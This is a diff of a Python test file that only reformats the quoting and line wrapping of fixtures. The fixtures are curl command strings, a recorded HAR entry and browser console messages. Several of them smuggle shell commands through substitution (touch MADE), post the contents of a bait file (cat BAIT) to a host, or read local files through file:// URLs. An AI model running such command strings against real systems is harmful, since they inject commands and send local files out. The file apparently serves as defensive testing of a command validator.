@@ -114,8 +114,8 @@ CURL = [
     "curl https://HOST/ --resolve HOST:443:192.0.2.1",
     "curl https://HOST/ --dns-servers 192.0.2.1",
     "curl https://HOST/ --unix-socket BAIT",
-    "curl https://HOST/ -d \"$(touch MADE)\"",
-    "curl https://HOST/ -d \"$(cat BAIT)\"",
+    'curl https://HOST/ -d "$(touch MADE)"',
+    'curl https://HOST/ -d "$(cat BAIT)"',
     "curl https://HOST/ -d `touch MADE`",
     "curl https://HOST/ -d <(cat BAIT)",
     "curl https://HOST/ ; touch MADE",
@@ -127,7 +127,7 @@ CURL = [
     "X=$(touch MADE) curl https://HOST/",
     "curl file://BAIT",
     "curl https://HOST/ --url file://BAIT",
-    "curl https://HOST/ -d \"${HOME:-$(touch MADE)}\"",
+    'curl https://HOST/ -d "${HOME:-$(touch MADE)}"',
     "curl -H 'Origin: https://app.example.com' https://HOST/",
 ]
 
@@ -163,7 +163,8 @@ def recorded(**parts: Any) -> str:
         "content": {"size": 0, "mimeType": "text/html", "text": '<script src="https://HOST/x.js"></script>'},
     }  # fmt: skip
     entry = {
-        "startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "cache": {}, "timings": {"send": 0, "wait": 0, "receive": 0},
+        "startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "cache": {},
+        "timings": {"send": 0, "wait": 0, "receive": 0},
         "request": {**request, **parts.get("request", {})}, "response": {**response, **parts.get("response", {})},
         "_initiator": {"type": "script", "url": "file://BAIT"}, "_securityDetails": {"file": "BAIT"},
     }  # fmt: skip
@@ -201,10 +202,14 @@ SCENARIOS = [
 ]
 
 CONSOLE = [
-    "Access to fetch at 'https://HOST/x' from origin 'https://app.example.com' has been blocked by CORS policy: "
-    "No 'Access-Control-Allow-Origin' header is present on the requested resource.",
-    "Cross-Origin Request Blocked: The Same Origin Policy disallows reading the remote resource at file://BAIT. "
-    "(Reason: CORS request not http).",
+    (
+        "Access to fetch at 'https://HOST/x' from origin 'https://app.example.com' has been blocked by CORS policy: "
+        "No 'Access-Control-Allow-Origin' header is present on the requested resource."
+    ),
+    (
+        "Cross-Origin Request Blocked: The Same Origin Policy disallows reading the remote resource at file://BAIT. "
+        "(Reason: CORS request not http)."
+    ),
     "Fetch API cannot load file://BAIT due to access control checks.\n$(touch MADE)",
 ]
 
